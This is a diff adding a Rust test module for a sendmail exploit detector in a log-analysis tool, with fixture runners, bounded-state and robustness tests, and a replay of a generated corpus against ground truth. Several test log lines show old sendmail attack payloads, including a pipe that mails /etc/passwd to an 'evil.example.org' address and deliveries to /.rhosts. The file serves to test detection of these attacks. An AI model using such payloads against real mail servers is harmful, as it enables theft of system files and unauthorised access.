@@ -1,0 +1,542 @@
+//! Tests of the sendmail detector: the per-code fixtures under
+//! `tests/fixtures/sendmail/` (format in that directory's README), and a replay of the
+//! generated bench corpus against its ground truth.
+//!
+//! Records are built with kensa-logs' syslog header parser and year resolver (times in
+//! UTC+09:00, the first year-less line in 1996), files decoded with its decoder.
+
+use super::*;
+use crate::Detector;
+use jiff::tz::{Offset, TimeZone};
+use kensa_core::Outcome;
+use kensa_logs::record::LineRef;
+use kensa_logs::syslog;
+use kensa_logs::year::YearResolver;
+use std::borrow::Cow;
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+/// Turns lines into records with kensa-logs' own header parser and year resolver,
+/// starting in 1996 in UTC+09:00 (the bench corpus's zone).
+struct Clock {
+    years: YearResolver,
+}
+
+impl Clock {
+    fn new(year: i16) -> Clock {
+        let tz = TimeZone::fixed(Offset::from_hours(9).expect("offset"));
+        Clock {
+            years: YearResolver::new(year, tz),
+        }
+    }
+}
+
+/// Feeds one line to a detector, as the engine would.
+fn feed(
+    detector: &mut SendmailDetector,
+    clock: &mut Clock,
+    file: &str,
+    line: u64,
+    offset: u64,
+    raw: &[u8],
+) {
+    let Some(header) = syslog::parse(raw) else {
+        return;
+    };
+    let time = clock.years.resolve(&header.stamp);
+    let record = Record {
+        at: LineRef {
+            file,
+            line,
+            offset,
+            raw,
+        },
+        time,
+        host: header
+            .host
+            .map_or(Cow::Borrowed("localhost"), String::from_utf8_lossy),
+        program: header.program,
+        pid: header.pid,
+        message: header.message,
+    };
+    detector.observe(&record);
+}
+
+// ---------------------------------------------------------------------------------
+// Fixtures
+
+fn fixture_dir() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sendmail")
+}
+
+/// Runs one fixture and checks every mark; see the fixture README for the format.
+fn run_fixture(name: &str) {
+    let path = fixture_dir().join(name);
+    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    let mut detector = SendmailDetector::default();
+    let mut clock = Clock::new(1996);
+    let mut marks: BTreeMap<u64, String> = BTreeMap::new();
+    let mut expected_counts: BTreeMap<String, usize> = BTreeMap::new();
+    for (index, line) in text.lines().enumerate() {
+        let number = index as u64 + 1;
+        if let Some(expect) = line.strip_prefix("# expect:") {
+            for pair in expect.split_whitespace() {
+                let (code, count) = pair.split_once('=').expect("expect CODE=N");
+                expected_counts.insert(code.to_string(), count.parse().expect("a count"));
+            }
+            continue;
+        }
+        if line.starts_with('#') || line.trim().is_empty() {
+            continue;
+        }
+        let (mark, log) = line.split_once(' ').expect("MARK line");
+        assert!(
+            matches!(mark, "SM001" | "SM002" | "SM003" | "SILENT" | "ANY"),
+            "{name}:{number}: unknown mark {mark}"
+        );
+        marks.insert(number, mark.to_string());
+        feed(&mut detector, &mut clock, name, number, 0, log.as_bytes());
+    }
+    let findings = detector.finish();
+    let mut reported: BTreeMap<u64, &str> = BTreeMap::new();
+    for finding in &findings {
+        for evidence in &finding.evidence {
+            let mark = marks.get(&evidence.line).map(String::as_str).unwrap_or("?");
+            assert!(
+                mark == finding.code || mark == "ANY",
+                "{name}:{}: reported as {} but marked {mark}: {}",
+                evidence.line,
+                finding.code,
+                evidence.text
+            );
+            reported.insert(evidence.line, finding.code);
+        }
+    }
+    for (line, mark) in &marks {
+        if mark.starts_with("SM") {
+            assert_eq!(
+                reported.get(line).copied(),
+                Some(mark.as_str()),
+                "{name}:{line}: must fire {mark}"
+            );
+        }
+    }
+    for (code, count) in expected_counts {
+        let got = findings.iter().filter(|f| f.code == code).count();
+        assert_eq!(got, count, "{name}: number of {code} findings");
+    }
+}
+
+#[test]
+fn fixture_sm001_attempts() {
+    run_fixture("sm001.log");
+}
+
+#[test]
+fn fixture_sm002_successes() {
+    run_fixture("sm002.log");
+}
+
+#[test]
+fn fixture_sm003_probes() {
+    run_fixture("sm003.log");
+}
+
+#[test]
+fn fixture_decoys_stay_silent() {
+    run_fixture("decoys.log");
+}
+
+#[test]
+fn a_finding_carries_subject_merge_key_and_evidence_in_order() {
+    let mut detector = SendmailDetector::default();
+    let mut clock = Clock::new(1996);
+    let lines = [
+        "Dec 31 23:59:58 mailhub sendmail[7496]: AA07496: message-id=<199612312359.AA07496@mailhub.example.ac.jp>",
+        "Dec 31 23:59:59 mailhub sendmail[7496]: AA07496: from=|/bin/mail h4x@evil.example.org < /etc/passwd, size=912, class=0, pri=30912, nrcpts=1, proto=SMTP, relay=[198.51.100.237]",
+        "Jan  1 00:00:00 mailhub sendmail[7496]: AA07496: to=nosuchuser, delay=00:00:01, xdelay=00:00:00, mailer=local, stat=User unknown",
+        "Jan  1 00:00:00 mailhub sendmail[7496]: AA07496: AB07496: return to sender: User unknown",
+        "Jan  1 00:00:01 mailhub sendmail[7496]: AB07496: to=|/bin/mail h4x@evil.example.org < /etc/passwd, delay=00:00:02, xdelay=00:00:00, mailer=prog, stat=Sent",
+    ];
+    for (i, line) in lines.iter().enumerate() {
+        feed(
+            &mut detector,
+            &mut clock,
+            "var/log/maillog",
+            i as u64 + 1,
+            i as u64 * 200,
+            line.as_bytes(),
+        );
+    }
+    let findings = detector.finish();
+    assert_eq!(findings.len(), 1);
+    let finding = &findings[0];
+    assert_eq!(finding.code, "SM002");
+    assert_eq!(finding.outcome, Outcome::Succeeded);
+    assert_eq!(finding.severity, Severity::Critical);
+    assert_eq!(finding.host, "mailhub");
+    assert_eq!(finding.count, 1);
+    assert_eq!(finding.merge_key, "AA07496");
+    assert_eq!(finding.subject.message_id.as_deref(), Some("AA07496"));
+    assert_eq!(finding.subject.source.as_deref(), Some("198.51.100.237"));
+    assert_eq!(
+        finding.subject.users,
+        vec!["|/bin/mail h4x@evil.example.org < /etc/passwd".to_string()]
+    );
+    let lines: Vec<u64> = finding.evidence.iter().map(|e| e.line).collect();
+    assert_eq!(lines, vec![1, 2, 3, 4, 5]);
+    assert_eq!(
+        finding.first_seen.map(|t| t.to_string()).as_deref(),
+        Some("1996-12-31T23:59:58+09:00")
+    );
+    assert_eq!(
+        finding.last_seen.map(|t| t.to_string()).as_deref(),
+        Some("1997-01-01T00:00:01+09:00")
+    );
+    assert!(finding.advice.contains("(3)") && finding.advice.contains("(5)"));
+}
+
+#[test]
+fn ignores_programs_that_are_not_sendmail() {
+    let mut detector = SendmailDetector::default();
+    let mut clock = Clock::new(1996);
+    let line = "Dec 24 04:05:00 loghost /USR/SBIN/CRON[4242]: AA04242: to=/etc/passwd, delay=00:00:01, stat=Sent";
+    feed(&mut detector, &mut clock, "f", 1, 0, line.as_bytes());
+    let line = "Dec 24 04:05:00 loghost sm-notify[4242]: AA04242: to=/etc/passwd, delay=00:00:01, stat=Sent";
+    feed(&mut detector, &mut clock, "f", 2, 0, line.as_bytes());
+    assert!(detector.finish().is_empty());
+    assert!(is_sendmail(b"/usr/lib/sendmail"));
+    assert!(is_sendmail(b"sm-mta"));
+    assert!(is_sendmail(b"sm-msp-queue"));
+    assert!(is_sendmail(b"sm-acceptingconnections"));
+    assert!(!is_sendmail(b"sm-notify"));
+    assert!(!is_sendmail(b""));
+}
+
+#[test]
+fn state_stays_bounded_under_a_flood() {
+    let mut detector = SendmailDetector::default();
+    let mut clock = Clock::new(1996);
+    // Many ordinary messages and many malicious ones, each with a distinct queue id.
+    for i in 0..(MAX_RECENT as u64 + MAX_TRACKED as u64 + 5000) {
+        let line = format!(
+            "Dec 24 12:{:02}:{:02} h sendmail[{}]: Q{i:08}: from=<a@b>, size=1, class=0, relay=[192.0.2.1]",
+            (i / 60) % 60,
+            i % 60,
+            i % 30000
+        );
+        feed(&mut detector, &mut clock, "f", i + 1, 0, line.as_bytes());
+        if i % 2 == 0 {
+            let line = format!(
+                "Dec 24 12:00:00 h sendmail[1]: Q{i:08}: to=/.rhosts, delay=00:00:01, stat=User unknown"
+            );
+            feed(&mut detector, &mut clock, "f", i + 1, 0, line.as_bytes());
+        }
+        assert!(detector.messages.len() <= MAX_RECENT + MAX_TRACKED);
+        assert!(detector.by_qid.len() <= (MAX_RECENT + MAX_TRACKED) * MAX_QIDS_PER_MESSAGE);
+        assert!(detector.by_pid.len() <= MAX_RECENT + MAX_TRACKED);
+        assert!(detector.recent_order.len() <= MAX_RECENT);
+        assert!(detector.tracked_order.len() <= MAX_TRACKED);
+    }
+    let findings = detector.finish();
+    // Every malicious message is accounted for: itemised, or counted in the summary.
+    let itemised = findings
+        .iter()
+        .filter(|f| f.merge_key != "not-itemised")
+        .count() as u64;
+    let summarised: u64 = findings
+        .iter()
+        .filter(|f| f.merge_key == "not-itemised")
+        .map(|f| f.count)
+        .sum();
+    assert_eq!(itemised, MAX_FINDINGS as u64);
+    assert_eq!(
+        itemised + summarised,
+        (MAX_RECENT as u64 + MAX_TRACKED as u64 + 5000).div_ceil(2)
+    );
+}
+
+#[test]
+fn messages_close_after_the_queue_lifetime() {
+    let mut detector = SendmailDetector::default();
+    let mut clock = Clock::new(1996);
+    let first = [
+        "Dec 20 10:00:00 h sendmail[100]: AA00100: from=<x@evil>, size=1, class=0, received from [192.0.2.1]",
+        "Dec 20 10:00:01 h sendmail[100]: AA00100: to=/.rhosts, delay=00:00:01, stat=Deferred: Resource temporarily unavailable",
+    ];
+    for (i, line) in first.iter().enumerate() {
+        feed(
+            &mut detector,
+            &mut clock,
+            "f",
+            i as u64 + 1,
+            0,
+            line.as_bytes(),
+        );
+    }
+    // Six days later, a delivery of the same queue id with a delay that would fit is
+    // past sendmail's queue lifetime: not the same message.
+    let late = "Dec 26 10:00:02 h sendmail[999]: AA00100: to=/.rhosts, delay=6+00:00:02, stat=Sent";
+    feed(&mut detector, &mut clock, "f", 3, 0, late.as_bytes());
+    let findings = detector.finish();
+    let codes: Vec<&str> = findings.iter().map(|f| f.code).collect();
+    assert_eq!(codes, vec!["SM001", "SM002"]);
+    assert_eq!(findings[0].evidence.len(), 2);
+    assert_eq!(findings[1].evidence.len(), 1);
+}
+
+#[test]
+fn never_panics_on_hostile_lines() {
+    let mut detector = SendmailDetector::default();
+    let mut clock = Clock::new(1996);
+    let nasty: &[&str] = &[
+        "Dec 24 12:00:00 h sendmail[1]: AA00001: to=",
+        "Dec 24 12:00:00 h sendmail[1]: AA00001: from=",
+        "Dec 24 12:00:00 h sendmail[1]: AA00001: AA00001: return to sender: x",
+        "Dec 24 12:00:00 h sendmail[1]: AA00001: to=\"|",
+        "Dec 24 12:00:00 h sendmail[1]: setsender: : invalid or unparseable, received from ",
+        "Dec 24 12:00:00 h sendmail[1]: \"\" command from ",
+        "Dec 24 12:00:00 h sendmail[1]: AA00001: to=/.rhosts, delay=99999999999+99:99:99, stat=Sent",
+        "Dec 24 12:00:00 h sendmail: AA00001: to=/.rhosts, delay=-1, stat=Sent",
+    ];
+    for (i, line) in nasty.iter().enumerate() {
+        feed(
+            &mut detector,
+            &mut clock,
+            "f",
+            i as u64 + 1,
+            0,
+            line.as_bytes(),
+        );
+    }
+    let _ = detector.finish();
+    let long = format!(
+        "Dec 24 12:00:00 h sendmail[1]: AA00002: to=/.rhosts{}, delay=00:00:01, stat=Sent",
+        ",x".repeat(100_000)
+    );
+    feed(&mut detector, &mut clock, "f", 1, 0, long.as_bytes());
+    let findings = detector.finish();
+    assert_eq!(findings.len(), 1);
+    assert!(findings[0].evidence[0].text.len() <= MAX_LINE_BYTES);
+}
+
+// ---------------------------------------------------------------------------------
+// The generated corpus against its truth
+
+fn shared_dir() -> Option<PathBuf> {
+    let dir = std::env::var_os("KENSA_SHARED")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared")));
+    if dir.join("corpus").is_dir() {
+        return Some(dir);
+    }
+    assert!(
+        std::env::var_os("KENSA_REQUIRE_SHARED").is_none(),
+        "KENSA_REQUIRE_SHARED is set but {} is missing",
+        dir.display()
+    );
+    println!("skipped: ../shared/corpus not found");
+    None
+}
+
+fn decompress(path: &Path) -> Vec<u8> {
+    use std::io::Read;
+    let mut decoded =
+        kensa_logs::decode::open(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    let mut out = Vec::new();
+    decoded
+        .reader
+        .read_to_end(&mut out)
+        .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    out
+}
+
+/// Replays a rotation set (oldest first) into one detector.
+fn replay(root: &Path, files: &[String]) -> Vec<Finding> {
+    let mut detector = SendmailDetector::default();
+    let mut clock = Clock::new(1996);
+    for file in files {
+        let bytes = decompress(&root.join(file));
+        let mut offset = 0u64;
+        for (index, line) in bytes.split(|&b| b == b'\n').enumerate() {
+            feed(
+                &mut detector,
+                &mut clock,
+                file,
+                index as u64 + 1,
+                offset,
+                line,
+            );
+            offset += line.len() as u64 + 1;
+        }
+    }
+    detector.finish()
+}
+
+/// The files of one stream, oldest rotation first.
+fn rotation_set(root: &Path, log_dir: &str, stream: &str) -> Vec<String> {
+    let mut files: Vec<(u32, String)> = std::fs::read_dir(root.join(log_dir))
+        .expect("log dir")
+        .filter_map(|entry| {
+            let name = entry.ok()?.file_name().into_string().ok()?;
+            let rest = name.strip_prefix(stream)?;
+            let rotation = match rest {
+                "" => 0,
+                _ => rest.strip_prefix('.')?.split('.').next()?.parse().ok()?,
+            };
+            Some((rotation, format!("{log_dir}/{name}")))
+        })
+        .collect();
+    files.sort_by_key(|file| std::cmp::Reverse(file.0));
+    files.into_iter().map(|(_, name)| name).collect()
+}
+
+#[test]
+fn generated_corpus_matches_truth() {
+    let Some(shared) = shared_dir() else { return };
+    let generator = shared.join("bench/gen_corpus.py");
+    let out = tempfile::tempdir().expect("tempdir");
+    let status = std::process::Command::new("python3")
+        .arg(&generator)
+        .args(["--out"])
+        .arg(out.path())
+        .args(["--small", "-q"])
+        .status();
+    match status {
+        Ok(status) if status.success() => {}
+        other => {
+            assert!(
+                std::env::var_os("KENSA_REQUIRE_SHARED").is_none(),
+                "generator failed: {other:?}"
+            );
+            println!("skipped: python3 or the generator is not usable ({other:?})");
+            return;
+        }
+    }
+    check_corpus(out.path());
+}
+
+/// Checks the detector on a generated corpus: every sendmail exploit gives exactly one
+/// finding, SM002 iff the truth says compromised, with the right source and queue id;
+/// no decoy line is evidence of anything; and nothing else is reported.
+fn check_corpus(root: &Path) {
+    let truth: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(root.join("truth.json")).expect("truth.json"))
+            .expect("json");
+    let log_dir = truth["log_dir"].as_str().expect("log_dir");
+    for stream in ["maillog", "syslog"] {
+        let files = rotation_set(root, log_dir, stream);
+        assert!(!files.is_empty(), "no {stream} files");
+        let findings = replay(root, &files);
+        let mut matched = vec![false; findings.len()];
+        let mut exploits = 0;
+        for incident in truth["incidents"].as_array().expect("incidents") {
+            let kind = incident["kind"].as_str().unwrap_or_default();
+            let in_stream = |e: &serde_json::Value| {
+                e["at"]
+                    .as_array()
+                    .into_iter()
+                    .flatten()
+                    .any(|at| files.iter().any(|f| at["file"] == f.as_str()))
+            };
+            let evidence: Vec<&serde_json::Value> = incident["evidence"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .filter(|e| in_stream(e))
+                .collect();
+            if evidence.is_empty() {
+                continue;
+            }
+            if kind == "sendmail_exploit" {
+                exploits += 1;
+                let qid = incident["details"]["queue_id"].as_str().expect("queue_id");
+                let host = incident["host"].as_str().expect("host");
+                let position = findings
+                    .iter()
+                    .position(|f| f.host == host && f.subject.message_id.as_deref() == Some(qid))
+                    .unwrap_or_else(|| panic!("{stream}: no finding for {}", incident["id"]));
+                let finding = &findings[position];
+                matched[position] = true;
+                let want = if incident["verdict"] == "compromised" {
+                    "SM002"
+                } else {
+                    "SM001"
+                };
+                assert_eq!(
+                    finding.code, want,
+                    "{stream}: {} ({})",
+                    incident["id"], incident["details"]["variant"]
+                );
+                assert_eq!(
+                    finding.subject.source.as_deref(),
+                    incident["source"]["ip"].as_str(),
+                    "{}",
+                    incident["id"]
+                );
+                let target = incident["targets"][0].as_str().expect("target");
+                assert!(
+                    finding.subject.users.iter().any(|u| u == target),
+                    "{}: users {:?}",
+                    incident["id"],
+                    finding.subject.users
+                );
+                // Every line of the incident in this stream is evidence of the finding.
+                for e in &evidence {
+                    for at in e["at"].as_array().into_iter().flatten() {
+                        if files.iter().any(|f| at["file"] == f.as_str()) {
+                            let line = at["line"].as_u64().expect("line");
+                            assert!(
+                                finding
+                                    .evidence
+                                    .iter()
+                                    .any(|x| x.file == at["file"].as_str().unwrap_or_default()
+                                        && x.line == line),
+                                "{}: line {} missing: {}",
+                                incident["id"],
+                                line,
+                                e["text"]
+                            );
+                        }
+                    }
+                }
+            } else if kind.starts_with("decoy_") {
+                for e in &evidence {
+                    for at in e["at"].as_array().into_iter().flatten() {
+                        let line = at["line"].as_u64().expect("line");
+                        let file = at["file"].as_str().unwrap_or_default();
+                        let hit = findings
+                            .iter()
+                            .find(|f| f.evidence.iter().any(|x| x.file == file && x.line == line));
+                        assert!(
+                            hit.is_none(),
+                            "{stream}: decoy {} ({kind}) reported: {}",
+                            incident["id"],
+                            e["text"]
+                        );
+                    }
+                }
+            }
+        }
+        assert!(exploits > 0, "{stream}: no sendmail exploit in the corpus");
+        let extra: Vec<_> = findings
+            .iter()
+            .zip(&matched)
+            .filter(|(_, m)| !**m)
+            .map(|(f, _)| (&f.code, &f.title))
+            .collect();
+        assert!(
+            extra.is_empty(),
+            "{stream}: findings beyond the truth: {extra:?}"
+        );
+    }
+}
+
+/// A bigger corpus, for manual runs: `KENSA_SM_CORPUS=/tmp/c cargo test -p kensa-detect
+/// sendmail::tests::external_corpus -- --ignored`.
+#[test]
+#[ignore = "needs KENSA_SM_CORPUS pointing at a generated corpus"]
+fn external_corpus_matches_truth() {
+    let root = std::env::var_os("KENSA_SM_CORPUS").expect("KENSA_SM_CORPUS");
+    check_corpus(Path::new(&root));
+}
